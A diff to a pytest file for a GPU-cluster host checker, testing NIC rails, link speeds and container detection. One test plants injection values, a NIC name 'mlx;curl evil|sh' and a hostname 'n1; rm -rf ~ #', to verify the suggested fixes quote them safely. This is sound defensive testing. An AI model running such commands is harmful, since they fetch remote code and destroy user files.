@@ -2,6 +2,7 @@
 
 import json
 import os
+import shlex
 
 import msgspec
 import pytest
@@ -29,7 +30,8 @@ WELL = {
     "proc/1/cgroup": "0::/init.scope\n",
     "proc/1/net/tcp": SOCKETS,
     "etc/systemd/system/multi-user.target.wants/kubelet.service": "",
-    "etc/containerd/config.toml": "[plugins.'io.containerd.cri.v1.runtime']\nenable_cdi = true\n",
+    "proc/70/comm": "containerd\n",
+    "etc/containerd/config.toml": "version = 3\n[plugins.'io.containerd.cri.v1.runtime']\nenable_cdi=true\n",
 }
 
 
@@ -56,7 +58,8 @@ def test_nothing_is_wrong_with_any_published_machine(name, tmp_path):
         ("sys/module/nvidia/version", None, hosts.DRIVER, State.UNKNOWN),
         ("proc/1/net/tcp", SOCKETS + LISTENS, hosts.PORTS, State.FAILS),
         ("proc/1/net/tcp", None, hosts.PORTS, State.UNKNOWN),
-        ("proc/71/comm", "nvidia-imex\n", hosts.HOST_IMEX, State.FAILS),
+        ("proc/71/comm", "nvidia-imex\n", hosts.HOST_IMEX, State.UNKNOWN),
+        ("proc/70/comm", "crio\n", hosts.CDI, State.UNKNOWN),
         (
             "etc/systemd/system/multi-user.target.wants/nvidia-imex.service",
             "",
@@ -221,3 +224,107 @@ def test_a_directory_that_is_no_hosts_is_refused(tmp_path):
     with pytest.raises(Refused, match="holds no sys and proc") as told:
         doctor(sysroot=tmp_path)
     assert "/host" in told.value.nearest_fix
+
+
+def linked(root, links):
+    """The root with these links in it."""
+    for path, target in links.items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).symlink_to(target)
+    return root
+
+
+def port(device, state, rate, layer="InfiniBand"):
+    at = f"{device}/ports/1"
+    told = {"state": state, "phys_state": "5: LinkUp", "rate": rate, "link_layer": layer}
+    return {f"{at}/{name}": f"{text}\n" for name, text in told.items()}
+
+
+def function(number, kind, **port_of):
+    """A PCI function, a GPU where nothing is said of a port: its files and the links to it."""
+    at = f"sys/devices/pci0000:00/0000:00:0{number}"
+    driver, vendor = ("mlx5_core", "0x15b3") if port_of else ("nvidia", "0x10de")
+    files = {"class": kind, "vendor": vendor, "device": "0x2941", "numa_node": "0"}
+    found = {f"{at}/{name}": f"{text}\n" for name, text in files.items()}
+    links = {
+        f"sys/bus/pci/devices/0000:00:0{number}": f"../../../devices/pci0000:00/0000:00:0{number}",
+        f"{at}/driver": f"../../../bus/pci/drivers/{driver}",
+    }
+    if port_of:
+        name = port_of.pop("name")
+        found |= port(f"{at}/infiniband/{name}", **port_of)
+        links |= {
+            f"{at}/infiniband/{name}/device": "../..",
+            f"sys/class/infiniband/{name}": f"../../devices/pci0000:00/0000:00:0{number}/infiniband/{name}",
+        }
+    return found, links
+
+
+GPU, INFINIBAND, ETHERNET = "0x030200", "0x020700", "0x020000"
+FAST = {"state": "4: ACTIVE", "rate": "400 Gb/sec (4X NDR)"}
+SLOW = {"state": "4: ACTIVE", "rate": "200 Gb/sec (4X HDR)"}
+DOWN = {"state": "1: DOWN", "rate": "10 Gb/sec (4X SDR)"}
+GPUS = [("1.0", GPU, {}), ("2.0", GPU, {})]
+
+
+def built(root, *functions):
+    """A host of these functions, the rest of which is well."""
+    files, links = {"proc/sys/kernel/hostname": "n1\n"}, {}
+    for number, kind, port_of in functions:
+        more, to = function(number, kind, **port_of)
+        files, links = files | more, links | to
+    for path, text in (WELL | files).items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_text(text)
+    (root / "sys/bus/pci/drivers/nvidia").mkdir(parents=True)
+    (root / "sys/bus/pci/drivers/mlx5_core").mkdir(parents=True)
+    return linked(root, links)
+
+
+def test_a_virtual_function_of_a_nic_is_nobodys_rail(tmp_path):
+    nics = [("3.0", INFINIBAND, {"name": "mlx5_0", **FAST}), ("3.1", INFINIBAND, {"name": "mlx5_1", **DOWN})]
+    root = built(tmp_path, *GPUS, *nics)
+    assert [one.subject for one in examine_host(root)] == ["NIC mlx5_1 of node n1"]
+    linked(root, {"sys/devices/pci0000:00/0000:00:03.1/physfn": "../0000:00:03.0"})
+    assert examine_host(root) == ()
+
+
+@pytest.mark.parametrize(("layer", "slow"), [("Ethernet", []), ("InfiniBand", ["NIC mlx5_0 of node n1"])])
+def test_a_link_is_as_fast_as_others_of_its_own_kind(layer, slow, tmp_path):
+    nics = [
+        ("3.0", ETHERNET, {"name": "mlx5_0", "layer": layer, **SLOW}),
+        ("4.0", INFINIBAND, {"name": "mlx5_1", **FAST}),
+    ]
+    assert [one.subject for one in examine_host(built(tmp_path, *GPUS, *nics))] == slow
+
+
+def test_without_gpus_no_nic_is_a_rail(tmp_path):
+    assert examine_host(built(tmp_path, ("3.0", INFINIBAND, {"name": "mlx5_0", **DOWN}))) == ()
+
+
+def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
+    hostile = "mlx;curl evil|sh"
+    root = built(tmp_path, *GPUS, ("3.0", INFINIBAND, {"name": hostile, **DOWN}))
+    (root / "proc/sys/kernel/hostname").write_text("n1; rm -rf ~ #\n")
+    (root / "proc/70/comm").unlink()
+    fixes = {one.check: one.fix for one in examine_host(root)}
+    assert shlex.split(fixes[names.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]
+    assert shlex.split(fixes[hosts.CDI], comments=True)[3] == "n1; rm -rf ~ #"
+
+
+@pytest.mark.parametrize(
+    ("links", "checks"),
+    [
+        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026531836]"}, []),
+        ({"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]"}, [hosts.PORTS, hosts.HOST_IMEX]),
+        ({"proc/1/ns/pid": "pid:[4026532001]"}, [hosts.PORTS, hosts.HOST_IMEX]),
+        (
+            {"proc/self": "71", "proc/71/ns/pid": "pid:[4026532001]", "proc/1/ns/pid": "pid:[4026531836]"},
+            [],
+        ),
+    ],
+    ids=["on the host", "in a container", "as root in a container", "the host's proc seen from a pod"],
+)
+def test_the_first_process_of_a_container_is_not_the_hosts(links, checks, tmp_path):
+    found = examine_host(linked(laid_out(tmp_path, load_machine(TRAY)), links))
+    assert [(one.check, one.state) for one in found] == [(one, State.UNKNOWN) for one in checks]
